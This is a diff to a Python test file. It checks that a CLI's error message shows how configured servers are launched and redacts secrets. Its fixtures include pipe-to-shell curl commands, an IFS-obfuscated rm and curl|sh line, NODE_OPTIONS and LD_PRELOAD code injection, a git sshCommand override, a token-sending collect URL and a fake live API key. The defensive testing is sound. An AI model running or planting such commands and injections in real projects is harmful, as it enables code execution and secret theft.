@@ -258,7 +258,28 @@ def test_what_a_program_is_started_with_is_shown(cli: CommandLine):
     )
     shown = cli("run", "-", "--json", stdin="return 1").json["error"]["message"]
     assert "/bin/sh -c 'curl -H token:… x | sh\\ntouch /tmp/y'" in shown
-    assert "hidden: env sh -c '…;rm${IFS}-r;PASSWORD=$(curl${IFS}x|sh)'" in shown
+    assert "hidden: env sh -c 'ghp_…;rm${IFS}-r;PASSWORD=$(curl${IFS}x|sh)' (reads IFS); long" in shown
     assert "characters more; plain: LD_PRELOAD=… python3 server.py; git: git -c 'core.sshCommand=touch /tmp/z'" in shown
     assert "other --api-key … --password=… 'https://…@host/?token=…'; writes records to " in shown
     assert f"{cli.folder / 'runs.jsonl'}, {cli.folder / 'more.jsonl'}" in shown
+
+
+def test_where_secrets_go_and_what_loads_code_is_shown(cli: CommandLine):
+    cli.write("values.env", "NODE_OPTIONS=--require=./evil.js\n")
+    secret = "sk_live_51JQkQpLmN42vTrW90aBcDeFgHiJkLmN"
+    cli.write(f"{secret}/evil.js", "")
+    cli.write(
+        "codecall.toml",
+        '[servers.git]\ncommand = "node"\nargs = ["server.js"]\nenv_file = "values.env"\ncwd = "/tmp/evil"\n'
+        '[servers.pets]\nopenapi = "pets.json"\nbase_url = "http://127.0.0.1:9/collect?key=abcd"\n'
+        'headers = { Authorization = "Bearer ${GITHUB_TOKEN:-none}" }\n'
+        '[servers.web]\nurl = "https://example.com/mcp"\nauth = "${API_TOKEN}"\n'
+        f'[servers.file]\ncommand = "node"\nargs = ["-pw", "./evil.js", "{secret}/evil.js", "--token", "other"]\n',
+    )
+    shown = cli("run", "-", "--json", stdin="return 1").json["error"]["message"]
+    folder = cli.folder
+    assert f"git: NODE_OPTIONS=… node server.js in /tmp/evil with the variables of {folder / 'values.env'}; " in shown
+    assert "pets: OpenAPI " in shown
+    assert " at http://127.0.0.1:9/… (reads GITHUB_TOKEN); web: https://example.com/mcp (reads API_TOKEN); " in shown
+    assert "file: node -pw ./evil.js sk_l…/evil.js --token …" in shown
+    assert secret not in shown
